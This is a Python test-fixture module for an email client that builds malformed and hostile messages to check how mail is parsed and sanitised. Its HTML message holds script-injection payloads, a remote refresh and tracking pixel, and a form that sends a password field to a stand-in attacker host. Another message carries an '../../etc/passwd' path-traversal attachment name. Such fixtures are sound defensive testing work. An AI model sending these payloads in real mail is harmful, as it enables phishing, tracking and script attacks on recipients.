"""Broken and hostile messages, put in their own folder of the test mailbox.

Each has a fixed Message-ID (`<NAME@hostile.test>`) so tests can find it.
"""

from __future__ import annotations

import base64
from datetime import datetime, timedelta

from teaminbox.demo.attachments import tiny_png

FOLDER = "Tests"
BIG_ATTACHMENT_BYTES = 20 * 1024 * 1024
TRACKER = "https://tracker.evil.test/pixel.gif"


def message_id(name: str) -> str:
    return f"<{name}@hostile.test>"


def _headers(name: str, subject: str, when: datetime, content_type: str, extra: str = "") -> str:
    return (
        f"From: Mallory <mallory@evil.test>\r\n"
        f"To: contact@office.test\r\n"
        f"Subject: {subject}\r\n"
        f"Date: {when.strftime('%a, %d %b %Y %H:%M:%S +0000')}\r\n"
        f"Message-ID: {message_id(name)}\r\n"
        f"MIME-Version: 1.0\r\n"
        f"{extra}"
        f"Content-Type: {content_type}\r\n"
    )


HOSTILE_HTML = f"""<html><head>
<meta http-equiv="refresh" content="0;url=https://evil.test/">
<base href="https://evil.test/">
<style>@import url("https://evil.test/x.css"); body {{ background: url(https://evil.test/bg.png) }}</style>
<script>document.title = "pwned"</script>
</head><body>
<p id="greeting" style="color: #336699">Bonjour, voici votre <b>facture</b>.</p>
<img src="{TRACKER}" alt="tracker">
<img src="x" onerror="alert(1)">
<a href="javascript:alert(1)">cliquez ici</a>
<a href="https://example.com/ok">a fine link</a>
<svg onload="alert(1)"><script>alert(2)</script></svg>
<iframe src="https://evil.test/frame"></iframe>
<form action="https://evil.test/steal"><input name="password"></form>
<div style="background-image: u\\rl(https://evil.test/escaped.png)">css trick</div>
<img src="cid:logo@hostile.test" alt="logo">
</body></html>"""


def _hostile_html(when: datetime) -> bytes:
    png = base64.encodebytes(tiny_png()).decode()
    html = base64.encodebytes(HOSTILE_HTML.encode()).decode()
    boundary = "rel-boundary"
    return (
        _headers("html", "Votre facture (HTML)", when, f'multipart/related; boundary="{boundary}"')
        + f"\r\n--{boundary}\r\nContent-Type: text/html; charset=utf-8\r\n"
        f"Content-Transfer-Encoding: base64\r\n\r\n{html}"
        f"--{boundary}\r\nContent-Type: image/png\r\nContent-ID: <logo@hostile.test>\r\n"
        f"Content-Transfer-Encoding: base64\r\n\r\n{png}--{boundary}--\r\n"
    ).encode()


def _unknown_charset(when: datetime) -> bytes:
    return (
        _headers(
            "charset", "=?x-klingon?Q?Bonjour_=E9t=E9?=", when, 'text/plain; charset="x-klingon"'
        ).encode()
        + b"Content-Transfer-Encoding: 8bit\r\n\r\nCaf\xe9 cr\xe8me et \xff\xfe octets bizarres.\r\n"
    )


def _malformed(when: datetime) -> bytes:
    return (
        _headers(
            "malformed",
            "Broken MIME",
            when,
            'multipart/mixed; boundary="never-closed"',
            extra="X-Garbage: \x01\x02\r\nContent-Transfer-Encoding: chunky\r\n",
        ).encode()
        + b"\r\n--never-closed\r\nContent-Type: text/plain; charset=utf-8\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n!!!not base64 at all@@@\r\n"
        b"--never-closed\r\nContent-Type: application/pdf\r\n"
        b'Content-Disposition: attachment; filename="../../etc/passwd"\r\n\r\n%PDF-1.4 half\r\n'
    )


def _plain_with_markup(when: datetime) -> bytes:
    body = (
        "Hello,\r\n<script>alert('text')</script> see https://example.com/devis?id=4 please.\r\n"
        "> quoted line\r\n"
    )
    return (
        _headers("plain", "Plain text with <tags>", when, "text/plain; charset=utf-8").encode()
        + b"\r\n"
        + body.encode()
    )


def _big_attachment(when: datetime) -> bytes:
    boundary = "big-boundary"
    blob = bytes(range(256)) * (BIG_ATTACHMENT_BYTES // 256)
    encoded = base64.encodebytes(blob)
    return (
        _headers("big", "Plans (20 Mo)", when, f'multipart/mixed; boundary="{boundary}"').encode()
        + f"\r\n--{boundary}\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
        "Voici les plans en pièce jointe.\r\n".encode()
        + f"--{boundary}\r\nContent-Type: application/octet-stream\r\n"
        f"Content-Disposition: attachment; filename*=utf-8''plans%20r%C3%A9novation.bin\r\n"
        f"Content-Transfer-Encoding: base64\r\n\r\n".encode()
        + encoded
        + f"--{boundary}--\r\n".encode()
    )


def big_attachment_content() -> bytes:
    return bytes(range(256)) * (BIG_ATTACHMENT_BYTES // 256)


def messages(now: datetime) -> list[tuple[bytes, list[str], datetime]]:
    """(raw, flags, internaldate) for the hostile folder, oldest first."""
    builders = [_malformed, _unknown_charset, _plain_with_markup, _hostile_html, _big_attachment]
    return [
        (
            build(now - timedelta(hours=len(builders) - i)),
            [],
            now - timedelta(hours=len(builders) - i),
        )
        for i, build in enumerate(builders)
    ]
